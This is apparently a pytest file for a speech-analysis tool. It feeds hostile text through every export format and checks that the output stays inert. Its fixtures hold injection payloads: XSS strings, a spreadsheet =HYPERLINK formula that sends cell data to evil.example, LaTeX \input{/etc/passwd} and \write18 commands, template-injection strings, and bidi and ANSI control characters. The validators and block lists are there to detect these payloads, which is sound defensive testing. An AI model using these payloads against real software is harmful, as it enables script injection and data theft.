"""Text that is full of markup, links, formulas and escapes stays text: every command, in every format."""

from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from html.parser import HTMLParser
from io import BytesIO, StringIO
from typing import TYPE_CHECKING

import pytest
from lxml import etree
from markdown_it import MarkdownIt

from tests.closed import run
from tests.here import runner
from tests.nights import write_speech
from tests.outputs import WHERE, Output, choose_outputs, list_commands, list_outputs
from tests.thorough import some
from tracker.report.formats import FORMATS, REPORTS

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

HOSTILE = (
    "<script>alert(1)</script> and <img src=x onerror=alert(1)> are corruption.",
    '"><svg onload=alert(1)> \'><a href="javascript:alert(1)">corruption</a> is a crime.',
    '=HYPERLINK("http://evil.example/?"&A1) is corruption.',
    "+1 on corruption, -1 on corruption, @SUM(1+1) of corruption.",
    "See [corruption](javascript:alert(1)), <javascript:alert(1)> and ![it](http://evil.example/a.png) here.",
    "]]> & corruption &amp; &lt;b&gt; <!-- a --> <![CDATA[ <?php ?> <!DOCTYPE x> </body></html> ends.",
    "The \u202enoitpurroc\u202c of \u2066corruption\u2069, \x1b[31mcorruption\x1b[0m, \x9b31m \x07 is seen.",
    "\\input{/etc/passwd} \\write18{ls} $x^2$ 50% #1 {corruption} } } { ~^_ of corruption.",
    "ER  - TY  - GEN of corruption.",
    "# corruption **bold** `code` | cell | --- > quote * item 1. item https://evil.example/ of corruption.",
    "{{ 7*7 }} {% corruption %} ${7*7} %s {0} of corruption.",
)
LINES = (
    "=1+1 corruption", "+1 corruption", "-1 corruption", "@a corruption", "\t=1 corruption", "> corruption",
    "ER  - corruption", "TY  - corruption", "--- corruption", "- [corruption](javascript:alert(1))",
    "# corruption", "~~~ corruption", "| a | corruption |", "<div onclick=alert(1)> corruption",
    "corruption", "===",
)  # fmt: skip
NAMED = (
    "=1+1 <script>alert(1)</script> ]]> & [x](javascript:alert(1)) \\input{x} } $ % \u202ex\u202c"
    " \x1b[31m | ER  - "
)
FILE = "=<script>alert(1)<script>&]]>[x](javascript:alert(1))\\input{}$%\u202ex\x1b[31m.txt"
DECLARED = {
    "--title": NAMED, "--speaker": NAMED, "--post": NAMED, "--on-behalf-of": NAMED,
    "--symbol": f"A/78/{NAMED}",
    "--url": "https://example.org/78?a=<script>&b={x}%5C&c=\\input{}",
}  # fmt: skip
_ODD = r"\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f"
UNSEEN = re.compile(f"[{_ODD}]")
NEVER = {
    "img",
    "iframe",
    "object",
    "embed",
    "link",
    "base",
    "form",
    "frame",
    "video",
    "audio",
    "foreignobject",
}
DIFF = ("diff", FILE, "79.txt", "--encoder", "none", "--all")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-text")
    speech = write_speech("\n\n".join((" ".join(HOSTILE), *LINES)), 4)
    (folder / FILE).write_text(speech, encoding="utf-8")
    (folder / "79.txt").write_text(write_speech("We condemn corruption.", 2), encoding="utf-8")
    (folder / "77.txt").write_text(write_speech(number=1), encoding="utf-8")
    rows = [("id", "label", "terms"), ("bad", NAMED, "corruption"), ("rivers", "Rivers", "rivers")]
    written = StringIO()
    csv.writer(written).writerows(rows)
    (folder / "own.csv").write_text(written.getvalue(), encoding="utf-8")
    run(folder, "init")
    for session in ("77", "79"):
        run(folder, "add", f"{session}.txt", "--as", f"XAA/UNGA/{session}~prepared.en")
    said = [word for pair in DECLARED.items() for word in pair]
    run(folder, "add", FILE, "--as", f"{WHERE}~prepared.en", *said)
    report = ("--format", "json", "-o", "report.json", "--overwrite")
    run(folder, "diff", WHERE, "XAA/UNGA/79", "--encoder", "none", *report)
    level = ("--topic", "corruption", "--level", "mentioned", "--by", "Ana", "--note", NAMED)
    run(folder, "judge", WHERE, *level)
    run(folder, "diff", WHERE, "XAA/UNGA/79", "--encoder", "none", *report)
    return folder


def list_runs() -> Iterator[tuple[str, ...]]:
    """Yield what is typed: every output, with topics that are named as badly, and of a file so named."""
    for output in choose_outputs(12):
        own = any("--vocabulary" in each.opts for each in list_commands()[_name(output)].params)
        again = _name(output) in {"reproduce", "export replication"}
        yield (*output.arguments, *(("--vocabulary", "own.csv") if own and not again else ()))
    for form in REPORTS["comparison"]:
        file = ("-o", f"out/answer.{form}") if FORMATS[form].needs_file else ()
        yield (*DIFF, "--format", form, *file)
    yield ("show", FILE)


def _name(output: Output) -> str:
    return next(name for name in list_commands() if f"{output.line} ".startswith(f"{name} "))


@pytest.mark.parametrize("arguments", some(110, list_runs()), ids=lambda typed: ascii(" ".join(typed))[1:-1])
def test_text_stays_text(
    folder: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    arguments: tuple[str, ...],
) -> None:
    shutil.rmtree(folder / "out", ignore_errors=True)
    (folder / "out").mkdir()
    ran = runner(folder, monkeypatch, capsys)(*arguments)
    assert ran.code in {0, 1, 2}, ran
    assert "Usage" not in ran.err, ran.err
    assert not UNSEEN.search(ran.err), ran.err
    form = arguments[arguments.index("--format") + 1] if "--format" in arguments else "text"
    if ran.out:
        check(form, ran.out.encode())
    for path in (folder / "out").iterdir():
        if path.is_file():
            check(path.suffix.removeprefix(".") if path.stem != "answer" else form, path.read_bytes())
            if path.suffix == ".svg":
                check("svg", path.read_bytes())


# What each format must hold ----------------------------------------------------------------------------


def check(form: str, data: bytes) -> None:
    """Look at one answer in its format."""
    if form in CHECKS:
        CHECKS[form](data)
    else:
        raise AssertionError(f"nothing looks at {form} yet")


def check_seen(data: bytes) -> None:
    text = data.decode()
    assert not UNSEEN.search(text), UNSEEN.findall(text)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name in {"href", "src", "action", "xlink:href"}:
                assert re.match(r"#|https?://|$", value or ""), (tag, value)
                assert "evil" not in (value or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def check_html(data: bytes) -> None:
    check_seen(data)
    page = _Page()
    page.feed(data.decode())
    assert not NEVER & set(page.tags)
    assert page.tags.count("script") <= 1
    assert page.tags.count("body") == page.tags.count("html") == 1
    for script in re.findall(r"<script[^>]*>(.*?)</script>", data.decode(), re.DOTALL):
        assert "alert" not in script


def check_xml(data: bytes) -> None:
    tree = etree.fromstring(data)
    names = {etree.QName(each).localname.lower() for each in tree.iter(etree.Element)}
    assert not names & {*NEVER, "script", "a", "handler"}
    assert not any(
        name.lower().startswith("on") and name != "only" for each in tree.iter() for name in each.attrib
    )


def check_docx(data: bytes) -> None:
    with zipfile.ZipFile(BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                part = etree.fromstring(package.read(name))
                assert not [each for each in part.iter() if each.get("TargetMode") == "External"]
                fields = [each.text or "" for each in part.iter() if str(each.tag).endswith("}instrText")]
                assert all("PAGE" in field for field in fields)


def check_json(data: bytes) -> None:
    json.loads(data)
    check_seen(data)


def check_lines(data: bytes) -> None:
    for line in data.splitlines():
        check_json(line)


def check_csv(data: bytes) -> None:
    check_seen(data.replace(b"\r\n", b"\n"))
    for row in csv.reader(StringIO(data.decode("utf-8-sig"))):
        for cell in row:
            assert not re.match(r"[=@\t\r]|[+-](?![\d.]+$)", cell), cell


def check_markdown(data: bytes) -> None:
    check_seen(data)
    for token in MarkdownIt("commonmark").enable("table").parse(data.decode()):
        assert token.type not in {"html_block", "fence"}, token
        for inline in token.children or ():
            assert inline.type not in {"image", "link_open"}, inline
            assert inline.type != "html_inline" or inline.content == "<!-- -->", inline  # our own


def check_bibtex(data: bytes) -> None:
    check_seen(data)
    depth = 0
    for char in re.sub(r"\\[{}]", "", data.decode()):
        depth += (char == "{") - (char == "}")
        assert depth >= 0
    assert depth == 0
    assert not re.search(r"\\(?:input|write)\b", data.decode())


def check_ris(data: bytes) -> None:
    check_seen(data)
    lines = data.decode().splitlines()
    assert all(re.match(r"[A-Z][A-Z0-9]  - ", f"{line} ") for line in lines if line)
    assert sum(line.startswith("TY") for line in lines) == sum(line.startswith("ER") for line in lines)


def check_latex(data: bytes) -> None:
    check_seen(data)
    assert not re.search(r"\\(?:input|write|include|immediate)\b|(?<!\\)\$x", data.decode())


def check_zip(data: bytes) -> None:
    with zipfile.ZipFile(BytesIO(data)) as package:
        for name in package.namelist():
            assert re.fullmatch(r"[\w./-]+", name, re.ASCII)
            form = {"bib": "bibtex", "ris": "ris"}.get(name.rpartition(".")[2])
            if form or name in {"README.txt", "methods/1.txt"} or name.endswith(".csl.json"):
                check(form or "text", package.read(name))


CHECKS: dict[str, Callable[[bytes], object]] = {
    "text": check_seen, "json": check_json, "csv": check_csv, "html": check_html, "markdown": check_markdown,
    "tei": check_xml, "svg": check_xml, "docx": check_docx, "bibtex": check_bibtex, "ris": check_ris,
    "csl": check_json, "latex": check_latex, "zip": check_zip,
    "jsonl": check_lines,
    "parquet": len, "warc": len,
}  # fmt: skip


def test_every_format_that_a_command_offers_is_looked_at() -> None:
    assert {output.form for output in list_outputs()} - {"-"} <= CHECKS.keys()
